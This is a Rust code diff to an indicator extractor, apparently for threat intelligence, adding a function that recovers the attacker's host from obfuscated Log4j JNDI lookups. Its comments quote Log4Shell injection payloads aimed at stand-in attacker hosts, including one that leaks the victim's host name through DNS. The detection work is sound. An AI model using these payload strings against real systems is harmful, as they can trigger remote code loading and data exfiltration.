@@ -668,6 +668,13 @@ impl Extractor {
             if let Some(m) = self.url(&ctx).or_else(|| self.host_after_scheme(&ctx)) {
                 return Some(m);
             }
+            // `${${lower:j}ndi:${lower:l}dap://probe.evil.xyz/a}`: a Log4j
+            // lookup that hides its scheme in more lookups.
+            if rb.contains(&b'$') {
+                if let Some(m) = self.lookup_host(&ctx) {
+                    return Some(m);
+                }
+            }
         }
         if at || at_marker || (has(F_NONASCII) && raw.contains('\u{FF20}')) {
             if let Some(m) = self.email(&ctx) {
@@ -1563,6 +1570,56 @@ impl Extractor {
             }
         };
         self.make(ctx, from, from + len, indicator, r.defanged)
+    }
+
+    /// The host a Log4j lookup calls out to, when lookups hide its scheme
+    /// (`${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://probe.evil.xyz/a}`)
+    /// or its first labels (`${jndi:dns://${env:HOSTNAME}.x1y2.oast.fun}`,
+    /// which sends the victim's host name as a label of the attacker's
+    /// domain): its domain or IPv4 address, the lookups left out. Out of
+    /// line: only pieces with `$` and a URL separator get here.
+    #[inline(never)]
+    fn lookup_host(&self, ctx: &Ctx<'_>) -> Option<Match> {
+        let rb = ctx.raw.as_bytes();
+        if find_seq(rb, b"${").is_none() {
+            return None;
+        }
+        let sep = find_seq(rb, b"://")?;
+        // The scheme: letters, or the `}` of a lookup that spells it.
+        let before = rb.get(sep.checked_sub(1)?)?;
+        if !(before.is_ascii_alphabetic() || *before == b'}') {
+            return None;
+        }
+        // Skip the lookups before the host, each followed by a dot.
+        let mut from = sep + 3;
+        while rb.get(from..).is_some_and(|r| r.starts_with(b"${")) {
+            let close = find_byte_from(rb, from, b'}')?;
+            from = close + 1;
+            if rb.get(from) == Some(&b'.') {
+                from += 1;
+            }
+        }
+        let len = rb
+            .get(from..)?
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-'))
+            .count();
+        let host = ctx.raw.get(from..from + len)?.trim_end_matches('.');
+        // A lookup inside the host (`evil.${x}.com`) leaves no name to read.
+        if host.is_empty() || rb.get(from + len) == Some(&b'$') {
+            return None;
+        }
+        let indicator = match parse_ipv4(host) {
+            Ok(ip) => Indicator::Ipv4(ip.into()),
+            Err(_) => {
+                let d = Domain::parse_quiet(host)?;
+                if d.registrable() == d.public_suffix() {
+                    return None;
+                }
+                Indicator::Domain(d)
+            }
+        };
+        self.make(ctx, from, from + host.len(), indicator, false)
     }
 
     /// The first address of an IPv4 range written with a dash
